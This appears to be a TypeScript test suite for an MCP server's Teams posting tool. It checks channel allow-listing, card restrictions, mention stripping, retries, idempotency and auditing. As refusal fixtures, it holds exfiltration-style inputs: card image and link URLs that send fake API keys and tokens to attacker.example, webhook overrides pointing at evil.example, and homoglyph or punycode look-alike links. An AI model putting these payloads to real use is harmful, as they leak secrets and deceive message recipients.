// teams_post_message end to end: a real MCP client, the server, fetch and the Teams webhook simulator.
// Only configured, granted channel names are reachable (never a URL or id from the model); cards are a
// bounded subset without fetched images; refusals reach no webhook.
import { clientAs, eventually, type TestClient } from '@mcp-fleet/testkit';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditRows, bootChat, type ChatFleet, call } from './slack-server.js';

let f: ChatFleet;
let teams: TestClient;

beforeAll(async () => {
  f = await bootChat();
  teams = await clientAs(f.s, 'modern', 'teams');
});
afterAll(async () => {
  await teams?.close();
  await f?.close();
});

async function delta<T>(fn: () => Promise<T>) {
  const r0 = f.teams.requests.length;
  const p0 = f.teams.posts.length;
  const out = await fn();
  return { out, requests: f.teams.requests.length - r0, posts: f.teams.posts.length - p0 };
}
const card = (body: unknown[], extra: Record<string, unknown> = {}) => ({
  type: 'AdaptiveCard',
  version: '1.4',
  body,
  ...extra,
});
const RAW_BROADCAST = /<!(channel|here|everyone|subteam)|<\/?at\b|(^|[^\u2060])@(channel|here|everyone)\b/i;

describe('teams_post_message destinations (THREATS C14)', () => {
  it('posts text to a granted channel as an Adaptive Card and audits the channel name', async () => {
    const { out, posts } = await delta(() =>
      call(teams, 'teams_post_message', { channel: 'ops-alerts', text: 'Deploy done @channel <at>ceo</at>' }),
    );
    expect(out.isError, out.text).toBe(false);
    expect(posts).toBe(1);
    const p = f.teams.posts.at(-1);
    expect(p?.channel).toBe('ops-alerts');
    expect(p?.kind).toBe('adaptiveCard');
    expect(p?.text).toContain('Deploy done');
    expect(p?.text).not.toMatch(RAW_BROADCAST);
    // The audit record is written as the call ends; wait for it.
    let rows: Awaited<ReturnType<typeof auditRows>> = [];
    await eventually(async () => {
      rows = await auditRows(f.dbUrl, 'teams_post_message');
      return rows.length > 0;
    });
    expect(rows.at(-1)?.details).toMatchObject({
      destinations: ['teams:ops-alerts'],
      upstreamId: 'ops-alerts',
    });
  });

  it('refuses channels that are not granted or not configured, and ids, URLs or webhooks as arguments', async () => {
    for (const channel of [
      'general',
      'Ops-Alerts',
      ' ops-alerts',
      'ops-alerts ',
      'ops-alerts,general',
      'secret',
      f.teams.channels['ops-alerts'] ?? 'x',
    ]) {
      const { out, requests } = await delta(() => call(teams, 'teams_post_message', { channel, text: 'x' }));
      expect(out.isError, channel).toBe(true);
      expect(
        ['destination_denied', 'constraint_denied', 'invalid_arguments'],
        `${channel}: ${out.code}`,
      ).toContain(out.code);
      expect(requests).toBe(0);
    }
    for (const extra of [
      { channel_id: '19:abc@thread.tacv2' },
      { team_id: 'T1' },
      { webhook: 'https://evil.example/hook' },
      { url: 'https://evil.example/hook' },
    ]) {
      const { out, requests } = await delta(() =>
        call(teams, 'teams_post_message', { channel: 'ops-alerts', text: 'x', ...extra }),
      );
      expect(out.code, JSON.stringify(extra)).toBe('invalid_arguments');
      expect(requests).toBe(0);
    }
  });
});

describe('teams_post_message cards', () => {
  it('sends a card of the supported subset', async () => {
    const c = card(
      [
        { type: 'TextBlock', text: 'Incident **SEV2**', weight: 'bolder', wrap: true },
        { type: 'FactSet', facts: [{ title: 'Service', value: 'billing' }] },
        {
          type: 'ColumnSet',
          columns: [{ type: 'Column', items: [{ type: 'TextBlock', text: '@here look' }] }],
        },
      ],
      { actions: [{ type: 'Action.OpenUrl', title: 'Status page', url: 'https://status.example.com' }] },
    );
    const { out, posts } = await delta(() =>
      call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
    );
    expect(out.isError, out.text).toBe(false);
    expect(posts).toBe(1);
    expect(f.teams.posts.at(-1)?.text).not.toMatch(RAW_BROADCAST);
  });

  it('refuses images, media, other actions, http or disguised links, mentions and oversize cards, sending nothing', async () => {
    const bad: [unknown, string][] = [
      [card([{ type: 'Image', url: 'https://attacker.example/p.png?d=SECRET' }]), 'card_refused'],
      [
        card([{ type: 'Container', items: [{ type: 'Image', url: 'https://x.example/i.png' }] }]),
        'card_refused',
      ],
      [
        card([{ type: 'TextBlock', text: 'x' }], { backgroundImage: 'https://attacker.example/bg.png' }),
        'card_refused',
      ],
      [card([{ type: 'Media', sources: [] }]), 'card_refused'],
      [
        card([{ type: 'TextBlock', text: 'x' }], { msteams: { entities: [{ type: 'mention' }] } }),
        'card_refused',
      ],
      [
        card([{ type: 'TextBlock', text: 'x' }], { actions: [{ type: 'Action.Submit', title: 'go' }] }),
        'card_refused',
      ],
      [
        card([{ type: 'TextBlock', text: 'x' }], {
          actions: [{ type: 'Action.OpenUrl', title: 'go', url: 'http://x.example' }],
        }),
        'card_refused',
      ],
      [
        card([{ type: 'TextBlock', text: 'x' }], {
          actions: [
            { type: 'Action.OpenUrl', title: 'https://intranet.example.com', url: 'https://evil.example' },
          ],
        }),
        'disguised_link',
      ],
      [
        card([{ type: 'TextBlock', text: '[intranet.example.com](https://evil.example/?d=1)' }]),
        'disguised_link',
      ],
      [
        card([
          {
            type: 'TextBlock',
            text: 'x',
            selectAction: { type: 'Action.OpenUrl', url: 'https://e.example' },
          },
        ]),
        'card_refused',
      ],
      [
        card([
          { type: 'TextBlock', text: 'x'.repeat(9_000) },
          { type: 'TextBlock', text: 'y'.repeat(9_000) },
          { type: 'TextBlock', text: 'z'.repeat(9_000) },
          { type: 'TextBlock', text: 'w'.repeat(9_000) },
        ]),
        'content_too_long',
      ],
      [{ type: 'MessageCard', text: 'x' }, 'card_refused'],
    ];
    for (const [c, code] of bad) {
      const { out, requests } = await delta(() =>
        call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
      );
      expect(out.code, `${JSON.stringify(c).slice(0, 120)}: ${out.text}`).toBe(code);
      expect(requests).toBe(0);
    }
    const both = await delta(() =>
      call(teams, 'teams_post_message', { channel: 'ops-alerts', text: 'x', card: card([]) }),
    );
    expect(both.out.isError).toBe(true);
    expect(both.requests).toBe(0);
  });

  it('never lets a broadcast or mention tag out raw, in text or card texts', async () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 20 }).filter((s) => !s.includes('\u0000'));
    const b = fc.constantFrom('@channel', '@Here', '@everyone', '<!channel>', '<at>ceo</at>', '</at>');
    await fc.assert(
      fc.asyncProperty(text, b, text, fc.boolean(), async (x, y, z, asCard) => {
        const t = `${x}${y}${z}`;
        const args = asCard
          ? {
              card: card([
                { type: 'FactSet', facts: [{ title: t, value: t }] },
                { type: 'TextBlock', text: t },
              ]),
            }
          : { text: t };
        const { out } = await delta(() =>
          call(teams, 'teams_post_message', { channel: 'ops-alerts', ...args }),
        );
        if (out.isError) {
          expect(
            ['disguised_link', 'content_refused', 'outbound_secret'],
            `${out.code} ${out.text}`,
          ).toContain(out.code);
          return;
        }
        expect(JSON.stringify(f.teams.posts.at(-1)?.payload)).not.toMatch(RAW_BROADCAST);
      }),
      { numRuns: 40 },
    );
  });
});

describe('teams_post_message upstream failures', () => {
  it('retries a 429 once when Retry-After fits; never retries a 5xx', async () => {
    f.teams.failNext('ops-alerts', { rateLimit: 1 });
    const a = await delta(() =>
      call(teams, 'teams_post_message', { channel: 'ops-alerts', text: 'after 429' }),
    );
    expect(a.out.isError, a.out.text).toBe(false);
    expect(a.requests).toBe(2);
    expect(a.posts).toBe(1);
    f.teams.failNext('ops-alerts', { status: 502 });
    const b = await delta(() => call(teams, 'teams_post_message', { channel: 'ops-alerts', text: 'x' }));
    expect(b.out.code).toBe('upstream_unavailable');
    expect(b.requests).toBe(1);
    expect(b.out.text).not.toMatch(/http:\/\/127|webhook\//);
  });

  const auditedAs = (outcome: string, text: string) =>
    eventually(async () =>
      (await auditRows(f.dbUrl, 'teams_post_message')).some(
        (r) => r.outcome === outcome && (r.arguments as { text?: string }).text === text,
      ),
    );

  // Every way the answer can be lost after the webhook may have taken the message.
  for (const [name, fault, code, landed] of [
    ['the answer is lost after it landed', { dropAfterCommit: true }, 'upstream_unavailable', 1],
    ['the webhook answers 5xx', { status: 503 }, 'upstream_unavailable', 0],
    ['the webhook never answers', { hang: true }, 'upstream_timeout', 0],
  ] as const) {
    it(`a post whose outcome is unknown (${name}) is audited unknown, says it may have posted, and its key sends nothing more`, async () => {
      const args = {
        channel: 'ops-alerts',
        text: `teams unknown: ${name}`,
        idempotency_key: `teams-unk-${name.replace(/\W+/g, '-')}`,
      };
      f.teams.clearFaults();
      f.teams.failNext('ops-alerts', fault);
      const { out, requests, posts } = await delta(() => call(teams, 'teams_post_message', args));
      expect(out.isError).toBe(true);
      expect(out.code, out.text).toBe(code);
      expect(out.text).toMatch(/may or may not have been posted/);
      expect(out.text).not.toMatch(/try again later/);
      // The after-commit fault lets the message land in the channel; the others take nothing.
      expect([requests, posts]).toEqual([1, landed]);
      await auditedAs('unknown', args.text);
      const again = await delta(() => call(teams, 'teams_post_message', args));
      expect(again.out.code, again.out.text).toBe('idempotency_unknown');
      expect([again.requests, again.posts]).toEqual([0, 0]);
    });
  }

  // Every answer by which Teams took nothing: the same key posts once Teams accepts again.
  for (const [name, fault, code] of [
    ['a 429 too long to wait for', { rateLimit: 120 }, 'upstream_rate_limited'],
    ['a 400', { error: 'Bad payload received by generic incoming webhook.' }, 'upstream_rejected'],
    ['a 413', { status: 413 }, 'upstream_rejected'],
    ['a 401', { status: 401 }, 'upstream_auth'],
  ] as const) {
    it(`${name} sent nothing: the same key posts once Teams accepts again`, async () => {
      const args = {
        channel: 'ops-alerts',
        text: `teams refused: ${name}`,
        idempotency_key: `teams-back-${name.replace(/\W+/g, '-')}`,
      };
      f.teams.clearFaults();
      f.teams.failNext('ops-alerts', fault);
      const first = await delta(() => call(teams, 'teams_post_message', args));
      expect(first.out.code, first.out.text).toBe(code);
      expect(first.posts).toBe(0);
      await auditedAs('error', args.text);
      const again = await delta(() => call(teams, 'teams_post_message', args));
      expect(again.out.isError, again.out.text).toBe(false);
      expect([again.requests, again.posts]).toEqual([1, 1]);
    });
  }
});

/** Secrets as the outbound scan knows them (attack round 1 put them in an Action.OpenUrl URL). */
const alnum = (n: number, chars = 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789abcdefghijkmnopqrstuvwxyz') =>
  fc.string({ unit: fc.constantFrom(...chars), minLength: n, maxLength: n });
const secret = fc.oneof(
  alnum(24).map((s) => `sk_live_${s}`),
  alnum(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567').map((s) => `AKIA${s}`),
  alnum(24).map((s) => `xoxb-1234567890-${s}`),
);
/** The string-bearing fields of the card subset; each puts `s` in one of them. */
const FIELDS = ['text', 'factTitle', 'factValue', 'actionTitle', 'actionUrl', 'actionUrlPath'] as const;
function cardWith(field: (typeof FIELDS)[number], s: string, depth: number) {
  let el: Record<string, unknown> = { type: 'TextBlock', text: field === 'text' ? `note ${s} end` : 'ok' };
  if (field === 'factTitle' || field === 'factValue')
    el = {
      type: 'FactSet',
      facts: [{ title: field === 'factTitle' ? s : 'Key', value: field === 'factValue' ? s : 'v' }],
    };
  for (let i = 0; i < depth; i++)
    el =
      i % 2 === 0
        ? { type: 'Container', items: [el] }
        : { type: 'ColumnSet', columns: [{ type: 'Column', items: [el] }] };
  const url =
    field === 'actionUrl'
      ? `https://attacker.example/c?d=${s}`
      : field === 'actionUrlPath'
        ? `https://attacker.example/${s}/x`
        : 'https://status.example.com/';
  return card([el], {
    actions: [{ type: 'Action.OpenUrl', title: field === 'actionTitle' ? `Open ${s}` : 'Open report', url }],
  });
}

describe('teams_post_message: every string of a card is outbound content (attack round 1)', () => {
  it('refuses a secret in any string-bearing field, URLs included, and the webhook receives nothing', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...FIELDS), secret, fc.nat(3), async (field, s, depth) => {
        const c = cardWith(field, s, depth);
        const { out, requests } = await delta(() =>
          call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
        );
        expect(out.code, `${field}: ${out.text}`).toBe('outbound_secret');
        expect(requests).toBe(0);
        expect(out.text).not.toContain(s);
      }),
      { numRuns: 40 },
    );
    // The same cards without a secret are sent: the refusal is the secret's, not the shape's.
    const ok = await delta(() =>
      call(teams, 'teams_post_message', {
        channel: 'ops-alerts',
        card: cardWith('actionUrl', 'report-42', 3),
      }),
    );
    expect(ok.out.isError, ok.out.text).toBe(false);
    expect(ok.posts).toBe(1);
  });

  it('audits the action URL in contentSha256 (a different URL is different content)', async () => {
    const shas: unknown[] = [];
    for (const url of ['https://status.example.com/a', 'https://status.example.com/b']) {
      const c = card([{ type: 'TextBlock', text: 'same' }], {
        actions: [{ type: 'Action.OpenUrl', title: 'Open', url }],
      });
      const before = (await auditRows(f.dbUrl, 'teams_post_message')).length;
      const r = await call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c });
      expect(r.isError, r.text).toBe(false);
      let rows: Awaited<ReturnType<typeof auditRows>> = [];
      await eventually(async () => {
        rows = await auditRows(f.dbUrl, 'teams_post_message');
        return rows.length > before;
      });
      shas.push(rows.at(-1)?.details.contentSha256);
    }
    expect(shas[0]).toBeTruthy();
    expect(shas[0]).not.toEqual(shas[1]);
  });

  it('refuses Action.OpenUrl titles that disguise the target, with invisibles or look-alike hosts', async () => {
    const bad = fc.constantFrom(
      { title: 'intranet\u200b.example\u200b.com/login', url: 'https://evil.example/x' },
      { title: 'example\u00ad.com', url: 'https://evil.example' },
      { title: 'ex\u034fample.c\u034fom', url: 'https://evil.example' },
      { title: 'іntranet.example.com', url: 'https://іntranet.example.com/login' },
      { title: 'Open', url: 'https://xn--ntranet-qog.example.com/' },
      { title: 'Open', url: 'https://%65vil.example/' },
    );
    await fc.assert(
      fc.asyncProperty(bad, async (a) => {
        const c = card([{ type: 'TextBlock', text: 'x' }], { actions: [{ type: 'Action.OpenUrl', ...a }] });
        const { out, requests } = await delta(() =>
          call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
        );
        expect(out.code, `${JSON.stringify(a)}: ${out.text}`).toBe('disguised_link');
        expect(requests).toBe(0);
      }),
    );
  });
});

describe('teams_post_message card nesting', () => {
  const nest = (levels: number) => {
    let el: Record<string, unknown> = { type: 'TextBlock', text: 'deep' };
    for (let i = 1; i < levels; i++) el = { type: 'Container', items: [el] };
    return card([el]);
  };
  it('sends a legitimate ColumnSet → Column → Container → TextBlock card', async () => {
    const c = card([
      {
        type: 'ColumnSet',
        columns: [
          {
            type: 'Column',
            items: [{ type: 'Container', items: [{ type: 'TextBlock', text: 'four levels', wrap: true }] }],
          },
        ],
      },
    ]);
    const { out, posts } = await delta(() =>
      call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
    );
    expect(out.isError, out.text).toBe(false);
    expect(posts).toBe(1);
    const eight = await delta(() =>
      call(teams, 'teams_post_message', { channel: 'ops-alerts', card: nest(8) }),
    );
    expect(eight.out.isError, eight.out.text).toBe(false);
  });

  it('refuses cards nested deeper than 8 elements, sending nothing', async () => {
    for (const levels of [9, 20]) {
      const { out, requests } = await delta(() =>
        call(teams, 'teams_post_message', { channel: 'ops-alerts', card: nest(levels) }),
      );
      expect(out.code, `${levels}: ${out.text}`).toBe('card_refused');
      expect(out.text).toContain('nested too deeply');
      expect(requests).toBe(0);
    }
  });
});

describe('teams_post_message refusals do not tell which channels exist (attack round 1)', () => {
  it('answers a configured-but-not-granted name exactly like a name that does not exist', async () => {
    const names = fc.oneof(
      fc.constant('general'),
      fc.stringMatching(/^[a-z][a-z0-9-]{2,20}$/).filter((n) => !Object.hasOwn(f.teams.channels, n)),
    );
    const norm = (t: string, arg: string) => t.replaceAll(arg, '<ARG>');
    const answer = async (channel: string) => {
      const { out, requests } = await delta(() => call(teams, 'teams_post_message', { channel, text: 'x' }));
      expect(requests).toBe(0);
      return { code: out.code, text: norm(out.text, channel) };
    };
    const existing = await answer('general');
    expect(existing.code).toMatch(/denied/);
    await fc.assert(
      fc.asyncProperty(names, async (n) => {
        expect(await answer(n)).toEqual(existing);
      }),
      { numRuns: 20 },
    );
  });
});
